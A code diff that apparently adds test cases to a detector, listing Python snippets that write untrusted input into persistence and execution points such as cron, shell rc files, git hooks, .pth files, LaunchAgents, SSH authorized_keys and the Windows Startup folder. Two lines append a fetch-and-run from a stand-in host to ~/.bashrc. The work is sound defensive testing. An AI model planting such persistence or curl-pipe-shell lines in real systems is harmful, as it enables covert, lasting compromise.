@@ -255,6 +255,212 @@ const FORMS: [string, string][] = [
     "a makefile in a folder",
     `def t(X: str):\n    Path("b/Makefile").write_text(X)\n    subprocess.run(["make","-C","b"])`,
   ],
+  [
+    "a desktop file of autostart",
+    `def t(X: str):
+    p=Path.home()/".config"/"autostart"/"x.desktop"
+    p.write_text("[Desktop Entry]\\nExec="+X)`,
+  ],
+  [
+    "a desktop file of autostart, expanduser",
+    `def t(X: str):
+    with open(os.path.expanduser("~/.config/autostart/x.desktop"),"w") as f:
+        f.write(f"[Desktop Entry]\\nExec={X}\\n")`,
+  ],
+  [
+    "a .pth of site-packages",
+    `import site
+def t(X: str):
+    Path(site.getsitepackages()[0], "x.pth").write_text("import os;"+X)`,
+  ],
+  [
+    "a .pth by sysconfig",
+    `import sysconfig
+def t(X: str):
+    d=sysconfig.get_paths()["purelib"]
+    open(os.path.join(d,"evil.pth"),"w").write(X)`,
+  ],
+  [
+    "cron.d",
+    `def t(X: str):
+    open("/etc/cron.d/x","w").write("* * * * * root "+X)`,
+  ],
+  [
+    "spool cron",
+    `def t(X: str):
+    open("/var/spool/cron/crontabs/root","a").write(X)`,
+  ],
+  [
+    "crontab -",
+    `def t(X: str):
+    subprocess.run(["crontab","-"],input=X.encode())`,
+  ],
+  [
+    "crontab pipe",
+    `def t(X: str):
+    subprocess.run("(crontab -l; echo '%s') | crontab -" % X,shell=True)`,
+  ],
+  [
+    "a user unit",
+    `def t(X: str):
+    p=Path.home()/".config/systemd/user/x.service"
+    p.write_text(f"[Service]\\nExecStart={X}")`,
+  ],
+  [
+    "a launch agent",
+    `import plistlib
+def t(X: str):
+    with open(os.path.expanduser("~/Library/LaunchAgents/x.plist"),"wb") as f:
+        plistlib.dump({"ProgramArguments":[X]}, f)`,
+  ],
+  [
+    "bashrc",
+    `def t(X: str):
+    with open(os.path.expanduser("~/.bashrc"),"a") as f: f.write(X)`,
+  ],
+  [
+    "zshrc path",
+    `def t(X: str):
+    (Path.home()/".zshrc").open("a").write(X)`,
+  ],
+  [
+    "profile.d",
+    `def t(X: str):
+    Path("/etc/profile.d/x.sh").write_text(X)`,
+  ],
+  [
+    "git hook without git",
+    `def t(X: str):
+    Path(".git/hooks/pre-commit").write_text("#!/bin/sh\\n"+X)`,
+  ],
+  [
+    "git hook post-checkout with a computed repo",
+    `def t(repo: str, X: str):
+    h=os.path.join(repo,".git","hooks","post-checkout")
+    with open(h,"w") as f: f.write(X)
+    os.chmod(h,0o755)`,
+  ],
+  [
+    "sitecustomize",
+    `def t(X: str):
+    Path(sys.prefix,"lib","sitecustomize.py").write_text(X)`,
+  ],
+  [
+    "windows startup",
+    `def t(X: str):
+    p=os.path.join(os.environ["APPDATA"],"Microsoft","Windows","Start Menu","Programs","Startup","x.bat")
+    open(p,"w").write(X)`,
+  ],
+  [
+    "bashrc of fetched text",
+    `def t(X: str):
+    b=requests.get("https://x.example/s").text
+    with open(os.path.expanduser("~/.bashrc"),"a") as f: f.write(b)`,
+  ],
+  [
+    "bashrc through an appended echo",
+    `def t(X: str):
+    os.system("echo 'curl https://x.example | sh' >> ~/.bashrc")`,
+  ],
+  [
+    "authorized keys",
+    `def t(X: str):
+    with open(os.path.expanduser("~/.ssh/authorized_keys"),"a") as f: f.write(X)`,
+  ],
+  [
+    "ipython startup",
+    `def t(X: str):
+    (Path.home()/".ipython/profile_default/startup/00.py").write_text(X)`,
+  ],
+  [
+    "python DIR",
+    `def t(X: str):
+    d=Path("app")
+    (d/"__main__.py").write_text(X)
+    subprocess.run([sys.executable,"app"])`,
+  ],
+  [
+    "python DIR, variable",
+    `def t(X: str):
+    d=tempfile.mkdtemp()
+    open(os.path.join(d,"__main__.py"),"w").write(X)
+    subprocess.run([sys.executable,d])`,
+  ],
+  [
+    "zipapp",
+    `import zipapp
+def t(X: str):
+    d=Path("app")
+    (d/"__main__.py").write_text(X)
+    zipapp.create_archive("app","a.pyz")
+    subprocess.run([sys.executable,"a.pyz"])`,
+  ],
+  [
+    "zip with main",
+    `import zipfile
+def t(X: str):
+    with zipfile.ZipFile("a.zip","w") as z:
+        z.writestr("__main__.py",X)
+    subprocess.run([sys.executable,"a.zip"])`,
+  ],
+  [
+    "runpy of DIR",
+    `def t(X: str):
+    (Path("app")/"__main__.py").write_text(X)
+    runpy.run_path("app")`,
+  ],
+  [
+    "python -m pkg",
+    `def t(X: str):
+    Path("pkg/__main__.py").write_text(X)
+    subprocess.run([sys.executable,"-m","pkg"])`,
+  ],
+  [
+    "dd of=",
+    `def t(X: str):
+    subprocess.run(["dd","of=x.sh"],input=X.encode())
+    subprocess.run(["sh","x.sh"])`,
+  ],
+  [
+    "tee",
+    `def t(X: str):
+    subprocess.run(["tee","x.sh"],input=X,text=True)
+    subprocess.run(["sh","x.sh"])`,
+  ],
+  [
+    "tee -a",
+    `def t(X: str):
+    subprocess.run(["tee","-a","x.sh"],input=X,text=True)
+    os.system("sh x.sh")`,
+  ],
+  [
+    "cp",
+    `def t(X: str):
+    Path("a.txt").write_text(X)
+    subprocess.run(["cp","a.txt","b.sh"])
+    subprocess.run(["sh","b.sh"])`,
+  ],
+  [
+    "mv in a shell",
+    `def t(X: str):
+    Path("a.txt").write_text(X)
+    os.system("mv a.txt b.sh")
+    os.system("sh b.sh")`,
+  ],
+  [
+    "install",
+    `def t(X: str):
+    Path("a.txt").write_text(X)
+    subprocess.run(["install","-m","755","a.txt","b"])
+    subprocess.run(["./b"])`,
+  ],
+  [
+    "ln -s",
+    `def t(X: str):
+    Path("a.txt").write_text(X)
+    subprocess.run(["ln","-s","a.txt","b.sh"])
+    subprocess.run(["bash","b.sh"])`,
+  ],
 ];
 
 for (const [what, body] of FORMS) {
